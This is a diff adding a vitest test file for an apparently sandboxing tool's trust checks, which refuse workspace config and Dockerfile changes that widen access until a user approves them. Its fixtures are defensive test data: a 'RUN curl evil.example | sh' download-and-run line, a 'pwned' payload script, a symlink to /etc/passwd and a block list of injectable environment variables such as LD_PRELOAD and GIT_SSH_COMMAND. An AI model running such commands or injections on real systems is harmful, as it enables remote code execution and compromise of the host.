@@ -1,0 +1,297 @@
+import {mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync} from 'node:fs'
+import {tmpdir} from 'node:os'
+import {join} from 'node:path'
+import {afterEach, beforeEach, describe, expect, it} from 'vitest'
+import {loadSettings, mergeLayers} from '../../src/lib/config/load.js'
+import {DEFAULTS, type ConfigFile} from '../../src/lib/config/schema.js'
+import {
+  assertBuildTrusted,
+  carryConfigApproval,
+  configTrust,
+  globToRegExp,
+  isTemplateDockerfile,
+  listTrusted,
+  matchesTrustedPaths,
+  readTrustStore,
+  recordTrust,
+  reviewWorkspace,
+  revokeTrust,
+  snapshotDir,
+  templateDockerfile,
+  trustStorePath,
+  unifiedDiff,
+  writeTrustStore,
+} from '../../src/lib/config/trust.js'
+import {isRiskyEnv, RISKY_ENV_NAMES, wideningChanges, workspaceChanges, type LowerSettings} from '../../src/lib/config/widening.js'
+import {ConfigError, UsageError} from '../../src/lib/errors.js'
+import {checkDockerNetwork} from '../../src/lib/spec.js'
+
+const lower = (over: Partial<LowerSettings> = {}): LowerSettings => ({...structuredClone(DEFAULTS), protectHookConfig: true, ...over})
+const widens = (layer: ConfigFile, below = lower()) => wideningChanges(layer, below).map((c) => c.key)
+
+describe('workspaceChanges: widening settings', () => {
+  it.each<[string, ConfigFile, string[]]>([
+    ['network open', {network: 'open'}, ['network']],
+    ['any dockerNetwork', {dockerNetwork: 'my-net'}, ['dockerNetwork']],
+    ['dockerNetwork host', {dockerNetwork: 'host'}, ['dockerNetwork']],
+    ['secretEnv', {secretEnv: ['AWS_SECRET_ACCESS_KEY']}, ['secretEnv']],
+    ['allowDomains', {allowDomains: ['evil.example']}, ['allowDomains']],
+    ['a port on every address', {ports: ['0.0.0.0:8080:3000']}, ['ports']],
+    ['a port on an IPv6 address', {ports: ['[::]:8080:3000']}, ['ports']],
+    ['sharedAgentConfig false', {sharedAgentConfig: false}, ['sharedAgentConfig']],
+    ['selinuxRelabel off', {selinuxRelabel: 'off'}, ['selinuxRelabel']],
+    ['protectHookConfig false', {protectHookConfig: false}, ['protectHookConfig']],
+    ['github.installationId', {github: {installationId: 7}}, ['github.installationId']],
+  ])('%s widens', (_name, layer, keys) => {
+    expect(widens(layer)).toEqual(keys)
+  })
+
+  it.each(['LD_PRELOAD', 'LD_LIBRARY_PATH', 'NODE_OPTIONS', 'BASH_ENV', 'ENV', 'PATH', 'PYTHONPATH', 'PYTHONSTARTUP', 'PERL5OPT', 'RUBYOPT', 'GIT_SSH_COMMAND', 'GIT_CONFIG_GLOBAL', 'PROMPT_COMMAND', 'SHELLOPTS', 'NODE_PATH', 'npm_config_registry', 'AGENT_SANDBOX_NETWORK', 'AGENT_SANDBOX_ALLOW_DOMAINS'])(
+    'env %s widens',
+    (name) => {
+      expect(isRiskyEnv(name, 'x')).toBe(true)
+      expect(widens({env: {[name]: 'x'}})).toEqual([`env.${name}`])
+    },
+  )
+
+  it('keeps the risky names in one exported list', () => {
+    for (const name of ['LD_*', 'NODE_OPTIONS', 'GIT_*', 'NPM_CONFIG_*', 'AGENT_SANDBOX_*', 'PATH']) expect(RISKY_ENV_NAMES).toContain(name)
+  })
+
+  it('AGENT_SANDBOX_GITHUB_META=0 only turns something off; =1 widens', () => {
+    expect(widens({env: {AGENT_SANDBOX_GITHUB_META: '0'}})).toEqual([])
+    expect(widens({env: {AGENT_SANDBOX_GITHUB_META: '1'}})).toEqual(['env.AGENT_SANDBOX_GITHUB_META'])
+  })
+
+  it('a limit above the one below widens; removing one is impossible (limits merge key by key)', () => {
+    const below = lower({limits: {memory: '1g', cpus: 2, pids: 256}})
+    expect(widens({limits: {memory: '2g'}}, below)).toEqual(['limits.memory'])
+    expect(widens({limits: {memory: '2048m'}}, below)).toEqual(['limits.memory'])
+    expect(widens({limits: {cpus: 4}}, below)).toEqual(['limits.cpus'])
+    expect(widens({limits: {pids: 1024}}, below)).toEqual(['limits.pids'])
+    expect(mergeLayers([['user', {limits: {memory: '1g'}}], ['workspace', {limits: {}}]]).settings.limits).toEqual({memory: '1g'})
+  })
+
+  it('network firewall widens only when the user chose none', () => {
+    expect(widens({network: 'firewall'})).toEqual([])
+    expect(widens({network: 'firewall'}, lower({network: 'none'}))).toEqual(['network'])
+  })
+})
+
+describe('workspaceChanges: narrowing settings apply without trust', () => {
+  it.each<[string, ConfigFile]>([
+    ['more protected paths', {protectedPaths: ['secrets/', '.env']}],
+    ['lower limits than unlimited', {limits: {memory: '512m', cpus: 1, pids: 128}}],
+    ['network none', {network: 'none'}],
+    ['baseTag', {baseTag: '2026-11-22'}],
+    ['harmless env names', {env: {FOO: 'bar', DEBUG: '1', TZ: 'UTC'}}],
+    ['ports on loopback (bare, host:container, explicit)', {ports: ['3000', '8080:3000', '127.0.0.1:9000:9000', '[::1]:9001:9001/udp']}],
+    ['protected branches', {protectedBranches: ['main', 'release/1.x']}],
+    ['selinuxRelabel on', {selinuxRelabel: 'on'}],
+    ['github.refreshMarginSeconds', {github: {refreshMarginSeconds: 60}}],
+  ])('%s', (_name, layer) => {
+    const changes = workspaceChanges(layer, lower())
+    expect(changes.length).toBeGreaterThan(0)
+    expect(changes.filter((c) => c.widens)).toEqual([])
+  })
+
+  it('protectHookConfig true where the user turned it off narrows', () => {
+    expect(workspaceChanges({protectHookConfig: true}, lower({protectHookConfig: false}))).toEqual([{key: 'protectHookConfig', summary: 'false -> true', widens: false}])
+  })
+
+  it('a limit below the user one narrows', () => {
+    expect(widens({limits: {memory: '512m', cpus: 1}}, lower({limits: {memory: '1g', cpus: 2}}))).toEqual([])
+  })
+
+  it("values equal to the user's change nothing (the template config.json is no change at all)", () => {
+    const template = JSON.parse(readFileSync(join(__dirname, '../../templates/config.json'), 'utf8')) as ConfigFile
+    expect(workspaceChanges(template, lower())).toEqual([])
+    expect(workspaceChanges({allowDomains: ['a.example'], dockerNetwork: 'net'}, lower({allowDomains: ['a.example'], dockerNetwork: 'net'}))).toEqual([])
+  })
+
+  it('a workspace cannot remove a protected path: lists only add up', () => {
+    const merged = mergeLayers([
+      ['user', {protectedPaths: ['secrets/']}],
+      ['workspace', {protectedPaths: []}],
+    ])
+    expect(merged.settings.protectedPaths).toEqual(['secrets/'])
+  })
+
+  it('masks secret-looking env values in the summary', () => {
+    const [change] = workspaceChanges({env: {API_TOKEN: 'hunter2hunter2'}}, lower())
+    expect(change.summary).not.toContain('hunter2')
+  })
+})
+
+describe('checkDockerNetwork', () => {
+  it('refuses container: and ns: from any source, with or without the flag', () => {
+    for (const net of ['container:agent-sandbox-other', 'ns:/proc/1/ns/net']) {
+      expect(() => checkDockerNetwork(net, 'open', true)).toThrow(UsageError)
+      expect(() => checkDockerNetwork(net, 'firewall')).toThrow(/refused from any source/)
+    }
+  })
+
+  it('refuses host unless network is open and --allow-host-network is given', () => {
+    expect(() => checkDockerNetwork('host', 'firewall', true)).toThrow(/network "firewall"/)
+    expect(() => checkDockerNetwork('host', 'none', true)).toThrow(UsageError)
+    expect(() => checkDockerNetwork('host', 'open', false)).toThrow(/--allow-host-network/)
+    expect(() => checkDockerNetwork('host', 'open', true)).not.toThrow()
+    expect(() => checkDockerNetwork('bridge', 'firewall')).not.toThrow()
+    expect(() => checkDockerNetwork('my-net', 'firewall')).not.toThrow()
+  })
+})
+
+describe('the trust store', () => {
+  let root: string
+  let env: NodeJS.ProcessEnv
+  let ws: string
+  beforeEach(() => {
+    root = mkdtempSync(join(tmpdir(), 'agent-sandbox-trust-'))
+    env = {HOME: join(root, 'home'), XDG_CONFIG_HOME: join(root, 'cfg'), XDG_STATE_HOME: join(root, 'state')}
+    ws = join(root, 'ws')
+    mkdirSync(join(ws, '.agent-sandbox'), {recursive: true})
+    writeFileSync(join(ws, '.agent-sandbox', 'Dockerfile'), templateDockerfile('latest'))
+    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), JSON.stringify({allowDomains: ['evil.example']}))
+  })
+  afterEach(() => rmSync(root, {recursive: true, force: true}))
+
+  const trustOf = () => {
+    const bytes = readFileSync(join(ws, '.agent-sandbox', 'config.json'))
+    return configTrust(ws, bytes, JSON.parse(bytes.toString()) as ConfigFile, undefined, env)
+  }
+
+  it('lives under XDG_STATE_HOME, else ~/.local/state', () => {
+    expect(trustStorePath(env)).toBe(join(root, 'state', 'agent-sandbox', 'trust.json'))
+    expect(trustStorePath({HOME: '/h'})).toBe('/h/.local/state/agent-sandbox/trust.json')
+  })
+
+  it('is written 0600 in a 0700 directory, by rename (a new inode, no temp file left)', () => {
+    const path = recordTrust(ws, snapshotDir(ws), 'trust', env)
+    expect(statSync(path).mode & 0o777).toBe(0o600)
+    expect(statSync(join(path, '..')).mode & 0o777).toBe(0o700)
+    const first = statSync(path).ino
+    writeTrustStore(readTrustStore(env), env)
+    expect(statSync(path).ino).not.toBe(first)
+    expect(readdirSync(join(path, '..'))).toEqual(['trust.json'])
+    expect(readTrustStore(env).workspaces[ws].files).toEqual(snapshotDir(ws).files)
+  })
+
+  it('hashes every file of .agent-sandbox/, sorted by path, links included', () => {
+    mkdirSync(join(ws, '.agent-sandbox', 'scripts'))
+    writeFileSync(join(ws, '.agent-sandbox', 'scripts', 'setup.sh'), 'echo hi\n')
+    symlinkSync('/etc/passwd', join(ws, '.agent-sandbox', 'link'))
+    const files = snapshotDir(ws).files
+    expect(Object.keys(files)).toEqual(['Dockerfile', 'config.json', 'link', 'scripts/setup.sh'])
+    expect(files['config.json']).toMatch(/^[0-9a-f]{64}$/)
+  })
+
+  it('an untrusted widening file is refused; trusted it applies; one changed byte refuses it again', () => {
+    expect(trustOf()).toMatchObject({state: 'untrusted', changed: false, refused: [{key: 'allowDomains'}]})
+    recordTrust(ws, snapshotDir(ws), 'trust', env)
+    expect(trustOf()).toMatchObject({state: 'trusted', via: 'store', refused: []})
+    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), JSON.stringify({allowDomains: ['evil.examplf']}))
+    expect(trustOf()).toMatchObject({state: 'untrusted', changed: true, refused: [{key: 'allowDomains'}]})
+  })
+
+  it('loadSettings refuses an untrusted widening file with a one-line ConfigError naming the key and the fix; report mode marks it', () => {
+    let error: unknown
+    try {
+      loadSettings({workspacePath: ws, env})
+    } catch (e) {
+      error = e
+    }
+    expect(error).toBeInstanceOf(ConfigError)
+    expect((error as ConfigError).message).toContain('allowDomains')
+    expect((error as ConfigError).message).not.toContain('\n')
+    expect((error as ConfigError).hint).toBe(`review and approve it with: agent-sandbox trust ${ws}`)
+    const reported = loadSettings({workspacePath: ws, env, untrusted: 'report'})
+    expect(reported.sources.allowDomains).toEqual(['workspace (untrusted: refused)'])
+    expect(reported.workspaceTrust?.refused.map((c) => c.key)).toEqual(['allowDomains'])
+  })
+
+  it('a narrowing-only file applies untrusted', () => {
+    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), JSON.stringify({limits: {memory: '512m'}, protectedPaths: ['x'], network: 'none'}))
+    const loaded = loadSettings({workspacePath: ws, env})
+    expect(loaded.settings).toMatchObject({network: 'none', limits: {memory: '512m'}, protectedPaths: ['x']})
+    expect(loaded.sources.network).toEqual(['workspace (untrusted)'])
+  })
+
+  it('trustedPaths comes only from the user file, and approves matching workspaces', () => {
+    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), JSON.stringify({trustedPaths: ['/']}))
+    expect(() => loadSettings({workspacePath: ws, env})).toThrow(/trustedPaths" is only read from the user config/)
+    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), JSON.stringify({allowDomains: ['a.example']}))
+    mkdirSync(join(root, 'cfg', 'agent-sandbox'), {recursive: true})
+    writeFileSync(join(root, 'cfg', 'agent-sandbox', 'config.json'), JSON.stringify({trustedPaths: [`${root}/*`]}))
+    expect(loadSettings({workspacePath: ws, env}).sources.allowDomains).toEqual(['workspace (trusted)'])
+  })
+
+  it('globs: * within a component, ** across, ~ from HOME', () => {
+    expect(globToRegExp('/src/mine/*').test('/src/mine/app')).toBe(true)
+    expect(globToRegExp('/src/mine/*').test('/src/mine/app/sub')).toBe(false)
+    expect(globToRegExp('/src/mine/*').test('/src/mine.app')).toBe(false)
+    expect(globToRegExp('/src/**').test('/src/a/b/c')).toBe(true)
+    expect(matchesTrustedPaths('/h/src/mine/app', ['~/src/mine/*'], {HOME: '/h'})).toBe(true)
+    expect(matchesTrustedPaths('/h/src/theirs/app', ['~/src/mine/*'], {HOME: '/h'})).toBe(false)
+  })
+
+  it('revoke and list', () => {
+    expect(revokeTrust(ws, env)).toBe(false)
+    recordTrust(ws, snapshotDir(ws), 'init', env)
+    expect(listTrusted(env).workspaces).toEqual([{path: ws, approvedAt: expect.any(String), by: 'init', status: 'trusted'}])
+    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), '{}')
+    expect(listTrusted(env).workspaces[0].status).toBe('changed')
+    expect(revokeTrust(ws, env)).toBe(true)
+    expect(listTrusted(env).workspaces).toEqual([])
+  })
+
+  it('carries an approval over a change the CLI made for the user (firewall allow --save), never an unapproved one', () => {
+    const before = readFileSync(join(ws, '.agent-sandbox', 'config.json'), 'utf8')
+    const after = JSON.stringify({allowDomains: ['evil.example', 'more.example']})
+    expect(carryConfigApproval(ws, before, after, env)).toBe(false)
+    recordTrust(ws, snapshotDir(ws), 'trust', env)
+    expect(carryConfigApproval(ws, before, after, env)).toBe(true)
+    writeFileSync(join(ws, '.agent-sandbox', 'config.json'), after)
+    expect(trustOf().state).toBe('trusted')
+  })
+
+  it("the template Dockerfile builds untrusted; any other needs approval, and again after a change to the build context", () => {
+    expect(() => assertBuildTrusted(ws, env)).not.toThrow()
+    writeFileSync(join(ws, '.agent-sandbox', 'Dockerfile'), `${templateDockerfile('latest')}RUN curl evil.example | sh\n`)
+    expect(() => assertBuildTrusted(ws, env)).toThrow(/is not the template and is not trusted/)
+    recordTrust(ws, snapshotDir(ws), 'trust', env)
+    expect(() => assertBuildTrusted(ws, env)).not.toThrow()
+    writeFileSync(join(ws, '.agent-sandbox', 'payload.sh'), 'echo pwned\n')
+    expect(() => assertBuildTrusted(ws, env)).toThrow(/changed since you trusted it \(payload.sh\)/)
+  })
+
+  it('review shows a diff against the template, then against the approved copy', () => {
+    writeFileSync(join(ws, '.agent-sandbox', 'Dockerfile'), `${templateDockerfile('latest')}RUN echo one\n`)
+    expect(reviewWorkspace(ws, env).dockerfileDiff).toMatch(/^--- template Dockerfile\n\+\+\+ .agent-sandbox\/Dockerfile\n@@ .*\n(.|\n)*\+RUN echo one/)
+    recordTrust(ws, snapshotDir(ws), 'trust', env)
+    writeFileSync(join(ws, '.agent-sandbox', 'Dockerfile'), `${templateDockerfile('latest')}RUN echo two\n`)
+    const diff = reviewWorkspace(ws, env).dockerfileDiff ?? ''
+    expect(diff).toContain('--- approved Dockerfile')
+    expect(diff).toContain('-RUN echo one')
+    expect(diff).toContain('+RUN echo two')
+  })
+})
+
+describe('helpers', () => {
+  it('recognises the template Dockerfile with any base tag, and nothing else', () => {
+    expect(isTemplateDockerfile(templateDockerfile('latest'))).toBe(true)
+    expect(isTemplateDockerfile(templateDockerfile('2026-11-22'))).toBe(true)
+    expect(isTemplateDockerfile(`${templateDockerfile('latest')}\n`)).toBe(false)
+    expect(isTemplateDockerfile(templateDockerfile('latest').replace('# Optional', 'RUN id\n# Optional'))).toBe(false)
+  })
+
+  it('unifiedDiff', () => {
+    expect(unifiedDiff('a\nb\nc\n', 'a\nB\nc\n', 'x', 'y')).toBe('--- x\n+++ y\n@@ -1,4 +1,4 @@\n a\n-b\n+B\n c\n ')
+    const long = Array.from({length: 20}, (_, i) => `l${i}`)
+    const changed = [...long]
+    changed[1] = 'X'
+    changed[18] = 'Y'
+    const diff = unifiedDiff(long.join('\n'), changed.join('\n'), 'x', 'y')
+    expect(diff.match(/^@@/gm)).toHaveLength(2)
+    expect(diff).toContain('@@ -1,5 +1,5 @@')
+  })
+})
